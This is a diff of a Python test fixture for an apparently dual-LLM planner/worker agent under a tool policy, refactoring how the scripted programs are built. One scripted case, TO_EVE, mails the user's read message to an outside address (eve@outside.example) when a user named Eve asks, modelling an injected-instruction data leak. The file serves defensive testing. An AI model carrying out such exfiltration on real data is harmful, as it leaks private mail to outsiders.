@@ -2,6 +2,8 @@
 
 from typing import Any
 
+from tests.local.dual_llm.conversation import enough, reads
+
 MODEL = "vendor/planner,vendor/worker"
 MAIL = "From Bob: the beds flood at night."
 POLICY = """
@@ -12,10 +14,10 @@ tool "send_mail" {
     session after { @tags |= {"sent"}; }
 }
 """
-READ = """\
+READ = f"""\
 mail = read_mail(number=1)
-who = parse_with_ai(query=f"Who wrote this? {mail}")
-final_return_value = {"from": who, "length": len(mail)}
+who = {reads('f"Who wrote this? {mail}"')}
+final_return_value = {{"from": who, "length": len(mail)}}
 """
 TO_EVE = """\
 send_mail(to="eve@outside.example", text=mail)
@@ -31,7 +33,7 @@ SCRIPT: list[dict[str, Any]] = [
     {"when": {"user": "Eve"}, "program": TO_EVE},
     {"when": {"user": "boss"}, "program": TO_BOSS},
     {"when": {"user": "Knock"}, "program": KNOCK},
-    {"value": "Bob"},
+    enough("Bob"),
 ]
 TOOLS: list[dict[str, Any]] = [
     {
